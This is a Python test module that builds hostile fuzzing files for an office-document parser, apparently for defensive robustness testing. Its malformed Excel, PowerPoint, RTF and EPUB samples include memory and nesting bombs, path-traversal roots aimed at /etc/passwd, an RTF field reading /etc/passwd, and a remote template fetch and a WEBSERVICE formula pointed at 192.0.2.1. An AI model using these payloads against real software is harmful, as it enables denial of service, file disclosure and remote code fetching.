"""Excel, PowerPoint, RTF and EPUB: external parts, false counts, multiplying texts."""

import zipfile
from collections.abc import Iterator

from tests.archives import zipped
from tests.fuzz.hostile.packages import FIXTURES, NUMBERS, changed

_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def files() -> Iterator[tuple[str, bytes]]:
    yield from _excel()
    yield from _rtf()
    yield from _books()
    slide = "<p:sld xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main' xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main'><p:cSld><p:spTree>{}</p:spTree></p:cSld></p:sld>"
    paragraph = "<p:sp><p:txBody><a:p><a:r><a:t>law</a:t></a:r></a:p></p:txBody></p:sp>"
    for name, content in {
        "shapes": paragraph * 100_000,
        "levels": "<p:sp><p:txBody><a:p><a:pPr lvl='2147483647'/><a:r><a:t>law</a:t></a:r></a:p></p:txBody></p:sp>",
        "numbered": "<p:sp><p:txBody><a:p><a:pPr><a:buAutoNum type='alphaLcPeriod' startAt='2147483647'/></a:pPr><a:r><a:t>law</a:t></a:r></a:p></p:txBody></p:sp>",
        "table": "<p:graphicFrame><a:graphic><a:graphicData><a:tbl><a:tr><a:tc gridSpan='2147483647' rowSpan='2147483647'><a:txBody><a:p><a:r><a:t>law</a:t></a:r></a:p></a:txBody></a:tc></a:tr></a:tbl></a:graphicData></a:graphic></p:graphicFrame>",
    }.items():
        yield (
            f"slide-{name}.pptx",
            changed("simple.pptx", {"ppt/slides/slide1.xml": slide.format(content)}),
        )


def _excel() -> Iterator[tuple[str, bytes]]:
    def book(rows: str, strings: str = "", styles: str = "") -> bytes:
        with zipfile.ZipFile(FIXTURES / "two-sheets.xlsx") as packed:
            sheet = next(n for n in packed.namelist() if n.startswith("xl/worksheets/sheet"))
        parts = {
            sheet: f"<worksheet {_S}><dimension ref='A1:XFD1048576'/><sheetData>{rows}</sheetData></worksheet>"
        }
        if strings:
            parts["xl/sharedStrings.xml"] = (
                f"<sst {_S} count='2147483647' uniqueCount='2147483647'>{strings}</sst>"
            )
        if styles:
            parts["xl/styles.xml"] = f"<styleSheet {_S}>{styles}</styleSheet>"
        return changed("two-sheets.xlsx", parts)

    long = f"<si><t>{'law ' * 250_000}</t></si>"
    yield (
        "one-string-20000-times.xlsx",
        book("<row>" + "<c t='s'><v>0</v></c>" * 20_000 + "</row>", long),
    )
    yield "one-string-in-20000-rows.xlsx", book("<row><c t='s'><v>0</v></c></row>" * 20_000, long)
    yield (
        "far-cells.xlsx",
        book(
            "<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>law</t></is></c></row><row r='1'><c r='ZZZZZZZZZZ9999999999' t='inlineStr'><is><t>law</t></is></c></row>"
        ),
    )
    yield (
        "cells-300000.xlsx",
        book("".join(f"<row r='{r}'>" + "<c><v>1</v></c>" * 100 + "</row>" for r in range(3_000))),
    )
    for at, number in enumerate(NUMBERS):
        yield (
            f"value-{at}.xlsx",
            book(
                f"<row r='{number}'><c s='{number}'><v>{number}</v></c><c t='s'><v>{number}</v></c><c t='d'><v>{number}</v></c><c t='inlineStr'><is><t>law</t></is></c></row>",
                "<si><t>law</t></si>",
                f"<numFmts><numFmt numFmtId='{number}' formatCode='{number}'/></numFmts><cellXfs count='{number}'><xf numFmtId='{number}'/></cellXfs>",
            ),
        )
    formats = {
        "zeros": "0" * 200_000,
        "groups": "#," * 100_000,
        "sections": ";" * 100_000,
        "brackets": "[" * 100_000,
        "scales": "0" + "," * 100_000,
        "dates": "yyyy" * 50_000,
        "quotes": "&quot;" * 50_001,
        "fill": "*x" * 50_000,
        "fractions": "?/?" * 30_000,
        "exponents": "0E+0" * 30_000,
        "conditions": "[&gt;1e308]0" * 20_000,
        "seconds": "[s].000" * 30_000,
    }
    for name, code in formats.items():
        cells = "".join(
            f"<c s='0'><v>{value}</v></c>"
            for value in ("1", "-1e308", "45000.5", "1e-300", "2958465.99")
        )
        yield (
            f"format-{name}.xlsx",
            book(
                f"<row>{cells * 20}<c t='inlineStr'><is><t>law</t></is></c></row>",
                styles=f"<numFmts><numFmt numFmtId='200' formatCode='{code}'/></numFmts><cellXfs><xf numFmtId='200'/></cellXfs>",
            ),
        )
    yield (
        "formulas.xlsx",
        book(
            "<row><c><f>WEBSERVICE(&quot;http://192.0.2.1&quot;)</f><v>law of the land</v></c><c t='str'><f t='shared' ref='A1:XFD1048576' si='0'>A1</f><v>law</v></c></row>"
        ),
    )
    runs = "<si>" + "<r><t>a</t></r>" * 500_000 + "</si>"
    yield "runs-of-a-string.xlsx", book("<row><c t='s'><v>0</v></c></row>" * 10, runs)


def _rtf() -> Iterator[tuple[str, bytes]]:
    for name, text in {
        "bin-of-32-bits": b"\\bin2147483647 abc",
        "bin-negative": b"\\bin-1 abc",
        "bin-of-digits": b"\\bin" + b"9" * 5_000 + b" abc",
        "unicode": b"\\u-99999?\\u99999999?\\u55296?\\u57343?" * 100,
        "fallbacks": b"\\uc2000000000\\u100 abc",
        "fallbacks-deep": b"{\\uc1\\u100{" * 20_000,
        "groups": b"{" * 1_000_000,
        "ends": b"}" * 1_000_000,
        "words": b"\\b" * 1_000_000,
        "hex": b"\\'zz\\'f" * 100_000,
        "long-word": b"\\" + b"a" * 1_000_000,
        "long-number": b"\\fs" + b"9" * 100_000,
        "fonts": b"{\\fonttbl"
        + b"".join(b"{\\f%d\\fcharset%d A;}" % (n, n) for n in range(50_000))
        + b"}",
        "pages": b"\\ansicpg99999\\'e4",
        "unknown-page": b"\\ansicpg-1\\'e4\\cpg" + b"9" * 5_000,
        "picture": b"{\\pict\\picw2147483647\\pich2147483647 " + b"ff" * 1_000_000 + b"}",
        "object": b"{\\object\\objemb{\\*\\objdata " + b"d0cf11e0" * 100_000 + b"}}",
        "field": b'{\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}{\\fldrslt law}}' * 1_000,
        "tables": b"\\trowd\\cellx2147483647\\itap2147483647 a\\cell\\nestcell\\nestrow\\row"
        * 20_000,
        "lists": b"{\\*\\listtable"
        + b"{\\list{\\listlevel\\levelstartat2147483647{\\leveltext\\'ff\\'00;}}\\listid1}" * 10_000
        + b"}\\ls1\\ilvl2147483647 a",
        "starts-again": b"{\\rtf1 " * 20_000 + b"law",
        "nul": b"\0\\\0'\0" * 10_000,
        "line-ends": b"\\\n\\\r" * 200_000,
        "ignored": b"{\\*" * 50_000,
        "bin-in-text": b"\\bin3 }}}law" * 50_000,
        "template": b"{\\*\\template http://192.0.2.1/a.dotm}",
    }.items():
        yield f"{name}.rtf", b"{\\rtf1\\ansi " + text + b" The tenant shall pay the rent.}"


def _books() -> Iterator[tuple[str, bytes]]:
    container = '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="{}"/></rootfiles></container>'

    def book(
        spine: str,
        manifest: str = '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>',
        full_path: str = "a.opf",
        page: str = "<html><body>law of the land</body></html>",
    ) -> bytes:
        opf = f'<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest>{manifest}</manifest><spine>{spine}</spine></package>'
        return zipped(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": container.format(full_path),
                "a.opf": opf,
                "a.xhtml": page,
            }
        )

    one = '<itemref idref="a"/>'
    yield "same-page-50000-times.epub", book(one * 50_000)
    yield (
        "same-long-page-150-times.epub",
        book(one * 150, page=f"<html><body>{'law ' * 300_000}</body></html>"),
    )
    for name, path in {
        "outside": "../../../etc/passwd",
        "absolute": "/etc/passwd",
        "url": "http://192.0.2.1/a.opf",
        "none": "",
        "long": "../" * 50_000,
        "itself": "META-INF/container.xml",
    }.items():
        yield f"root-{name}.epub", book(one, full_path=path)
        yield (
            f"page-{name}.epub",
            book(one, f'<item id="a" href="{path}" media-type="application/xhtml+xml"/>'),
        )
    yield (
        "items-200000.epub",
        book(
            one,
            "".join(
                f'<item id="a{n}" href="{n}.xhtml" media-type="text/html"/>' for n in range(200_000)
            )
            + '<item id="a" href="a.xhtml" media-type="text/html"/>',
        ),
    )
    yield (
        "escapes.epub",
        book(one, f'<item id="a" href="{"%2e%2e%2f" * 50_000}" media-type="text/html"/>'),
    )
    yield "deep-page.epub", book(one, page="<html><body>" + "<div>" * 200_000 + "law")
